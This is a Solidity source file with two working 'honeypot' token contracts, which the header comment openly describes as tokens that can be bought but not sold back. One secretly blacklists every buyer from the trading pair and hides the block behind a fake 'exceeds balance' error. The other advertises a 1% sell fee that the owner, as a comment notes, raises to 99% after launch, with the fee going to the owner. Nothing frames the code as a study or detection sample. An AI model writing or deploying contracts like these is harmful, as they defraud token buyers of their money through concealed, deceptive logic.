// SPDX-License-Identifier: MIT
// Honeypot tokens: buying from the pair works, selling back does not. Variant A keeps a
// hidden blacklist that every buyer lands on (sells revert); variant B taxes sells ~99%.
pragma solidity 0.8.19;

abstract contract PlainERC20 {
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;
    uint256 public totalSupply;
    string public name;
    string public symbol;
    uint8 public constant decimals = 18;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory n, string memory s, uint256 supply) {
        name = n;
        symbol = s;
        totalSupply = supply;
        balanceOf[msg.sender] = supply;
        emit Transfer(address(0), msg.sender, supply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        _move(msg.sender, to, value);
        return true;
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        uint256 a = allowance[from][msg.sender];
        if (a != type(uint256).max) allowance[from][msg.sender] = a - value;
        _move(from, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal virtual;
}

contract HoneypotBlacklistToken is PlainERC20 {
    address private immutable dev;
    address public pair;
    mapping(address => bool) private _bots; // "anti-bot" list, in fact every buyer

    constructor(string memory n, string memory s, uint256 supply) PlainERC20(n, s, supply) {
        dev = msg.sender;
    }

    function setPair(address p) external {
        require(msg.sender == dev);
        pair = p;
    }

    function _move(address from, address to, uint256 value) internal override {
        require(!_bots[from], "ERC20: transfer amount exceeds balance"); // misleading reason
        balanceOf[from] -= value;
        balanceOf[to] += value;
        if (from == pair && to != dev) _bots[to] = true;
        emit Transfer(from, to, value);
    }
}

contract HoneypotTaxToken is PlainERC20 {
    address public owner;
    address public pair;
    uint256 public sellFeeBps = 100; // advertised 1%

    constructor(string memory n, string memory s, uint256 supply) PlainERC20(n, s, supply) {
        owner = msg.sender;
    }

    function configure(address p, uint256 feeBps) external {
        require(msg.sender == owner);
        pair = p;
        sellFeeBps = feeBps; // raised to 9900 after launch
    }

    function _move(address from, address to, uint256 value) internal override {
        balanceOf[from] -= value;
        uint256 fee = (to == pair && from != owner) ? (value * sellFeeBps) / 10_000 : 0;
        balanceOf[owner] += fee;
        balanceOf[to] += value - fee;
        emit Transfer(from, to, value - fee);
        if (fee > 0) emit Transfer(from, owner, fee);
    }
}
